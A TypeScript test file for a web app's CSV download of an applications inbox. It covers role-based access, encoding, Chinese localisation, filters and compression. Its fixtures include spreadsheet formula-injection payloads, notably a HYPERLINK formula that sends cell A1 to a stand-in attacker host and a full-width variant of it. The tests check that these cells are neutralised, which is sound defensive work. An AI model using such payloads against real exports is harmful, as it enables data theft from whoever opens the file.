// The applications inbox as a CSV file (issue 13): who may download it, and that a spreadsheet
// opening it sees Chinese intact, every cell where it belongs, and no formula it would run.
import { gunzipSync } from 'node:zlib';
import { beforeAll, describe, expect, test } from 'vitest';
import { csvCell } from '../server/lib/csv.js';
import { signedInAppForFile, testRoles, type SignedIn, type TestRole } from './helpers/accounts.js';
import { parseCsv } from './helpers/csv.js';

const { t, signedIn } = signedInAppForFile({ env: { SEED_DEMO: 'false' } });
beforeAll(async () => {
  const people: Array<[string, string, string, 'en' | 'zh']> = [
    ['李华', 'li.hua@mail.utoronto.ca', '我想学古琴，也会弹琵琶。', 'zh'],
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', 'a@example.com', '+1 416 555 0123', 'en'],
    ['-2+3', 'b@example.com', '@SUM(A1:A9)', 'en'],
    ['\tTabbed', 'c@example.com', 'Line one\r\nLine "two", with a comma', 'en'],
  ];
  for (const [name, email, message, language] of people)
    await t.app.services.join.submit({ name, email, group: 'arts', message, language });
  const handled = (await t.app.services.join.list({ q: '李华' })).applications[0]!;
  await t.app.services.join.setHandled({ id: signedIn.admin.account!.id, username: signedIn.admin.account!.username }, handled.id, true);
});

const download = (query = '', who: SignedIn = signedIn.manageStaff, headers: Record<string, string> = {}) =>
  who.rest(`/admin/applications.csv${query}`, { headers });
const rowsOf = async (response: Response) => {
  const bytes = Buffer.from(await response.arrayBuffer());
  return { bytes, rows: parseCsv(bytes.toString('utf8').replace(/^\uFEFF/, '')) };
};

describe('who may download it', () => {
  const expected = (role: TestRole) => (role === 'anonymous' ? 401 : role === 'manageStaff' || role === 'admin' ? 200 : 403);
  test.each(testRoles)('%s', async (role) => {
    const response = await download('', signedIn[role]);
    expect(response.status).toBe(expected(role));
    if (response.status !== 200)
      expect(((await response.json()) as { code: string }).code).toBe(role === 'anonymous' ? 'UNAUTHORIZED' : 'FORBIDDEN');
  });
});

describe('the file', () => {
  test('UTF-8 with a byte order mark, an attachment named by the day, never cached', async () => {
    const response = await download();
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="applications-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.headers.get('cache-control')).toBe('no-store');
    const { bytes } = await rowsOf(response);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8')).toContain('\r\n');
  });

  test('a header and one record per application, newest first; Chinese intact; quotes, commas and line breaks kept in their cell', async () => {
    const { rows } = await rowsOf(await download());
    expect(rows[0]).toEqual([
      'Number',
      'Received (Toronto time)',
      'Name',
      'E-mail',
      'Department',
      'Message',
      'Language',
      'Handled (Toronto time)',
      'Handled by',
    ]);
    expect(rows).toHaveLength(5);
    const [tabbed, , , chinese] = rows.slice(1);
    expect(chinese!.slice(2, 7)).toEqual(['李华', 'li.hua@mail.utoronto.ca', 'Arts', '我想学古琴，也会弹琵琶。', 'Chinese (Simplified)']);
    expect(chinese![7]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
    expect(chinese![8]).toBe(signedIn.admin.account!.username);
    expect(tabbed![5]).toBe('Line one\r\nLine "two", with a comma');
    expect(tabbed![7]).toBe('');
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([9]));
  });

  test('a cell beginning with = + - @ or a tab is text: an apostrophe goes first', async () => {
    const cells = (await rowsOf(await download())).rows.flat();
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
    expect(cells).toContain("'+1 416 555 0123");
    expect(cells).toContain("'-2+3");
    expect(cells).toContain("'@SUM(A1:A9)");
    expect(cells).toContain("'\tTabbed");
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(csvCell('\rX')).toBe(`"'\rX"`);
    expect(csvCell('a=b')).toBe('"a=b"');
    expect(csvCell(null)).toBe('""');
  });

  test('headers, department and language names in Chinese with ?language=zh', async () => {
    const { rows } = await rowsOf(await download('?language=zh'));
    expect(rows[0]![0]).toBe('编号');
    expect(rows[0]![2]).toBe('姓名');
    expect(rows.at(-1)!.slice(4, 7)).toEqual(['艺术部', '我想学古琴，也会弹琵琶。', '简体中文']);
  });

  test('headers, department and language names in Traditional with ?language=zh-Hant; what the applicant wrote stays as written', async () => {
    const { rows } = await rowsOf(await download('?language=zh-Hant'));
    expect(rows[0]!.slice(0, 5)).toEqual(['編號', '收到時間（多倫多時間）', '姓名', '電子郵件', '部門']);
    expect(rows.at(-1)!.slice(5, 7)).toEqual(['我想学古琴，也会弹琵琶。', '簡體中文']);
  });

  test('the inbox filters apply: search and handled', async () => {
    expect((await rowsOf(await download(`?q=${encodeURIComponent('古琴')}`))).rows.slice(1).map((row) => row[2])).toEqual(['李华']);
    expect((await rowsOf(await download('?status=handled'))).rows.slice(1).map((row) => row[2])).toEqual(['李华']);
    expect((await rowsOf(await download('?status=unhandled'))).rows).toHaveLength(4);
  });

  test('a bad filter: 400 naming the field, in the request’s language', async () => {
    const response = await download('?status=maybe&language=zh');
    expect(response.status).toBe(400);
    const body = (await response.json()) as { error: string; issues: Array<{ path: string; message: string }> };
    expect(body.issues[0]!.path).toBe('status');
    expect(body.issues[0]!.message).toContain('状态');
  });

  test('compressed when asked, whole either way', async () => {
    const plain = Buffer.from(await (await download('', signedIn.manageStaff, { 'accept-encoding': 'identity' })).arrayBuffer());
    const response = await fetch(`${t.url}/api/admin/applications.csv`, {
      headers: { ...signedIn.manageStaff.headers, 'accept-encoding': 'gzip' },
      decompress: false,
    } as RequestInit);
    expect(response.status).toBe(200);
    const raw = Buffer.from(await response.arrayBuffer());
    const body = response.headers.get('content-encoding') === 'gzip' ? gunzipSync(raw) : raw;
    expect(body.equals(plain)).toBe(true);
  });

  test('other methods: 405 with Allow', async () => {
    const response = await signedIn.manageStaff.rest('/admin/applications.csv', { method: 'POST', body: '{}' });
    expect(response.status).toBe(405);
    expect(response.headers.get('allow')).toBe('GET, HEAD');
  });
});

describe('formula marks a spreadsheet reads that are not ASCII (issue 34)', () => {
  test('a cell beginning with a full-width or small ＝ ＋ － ＠, after spaces, or with a line feed gets the apostrophe; the same marks inside a cell do not', () => {
    for (const text of ['＝1+1', '＋1', '－2', '＠SUM(A1)', '﹦1+1', '﹢1', '﹣1', '﹫x', ' =1+1', '\u3000＝1+1', '\u00a0@x', '\nX']) {
      expect(csvCell(text), JSON.stringify(text)).toBe(`"'${text}"`);
    }
    for (const text of ['李＝华', 'a＋b', 'Li Hua', '１２３']) expect(csvCell(text), text).toBe(`"${text}"`);
  });

  test('through the inbox file: a name and a message beginning with ＝ and ＠ are text', async () => {
    await t.app.services.join.submit({
      name: '＝HYPERLINK("http://evil.example/","点我")',
      email: 'fw@example.com',
      group: 'arts',
      message: '＠SUM(A1:A9)',
      language: 'zh',
    });
    const { rows } = await rowsOf(await download(`?q=${encodeURIComponent('fw@example.com')}`));
    expect(rows.slice(1).map((row) => [row[2], row[5]])).toEqual([[`'＝HYPERLINK("http://evil.example/","点我")`, "'＠SUM(A1:A9)"]]);
  });
});
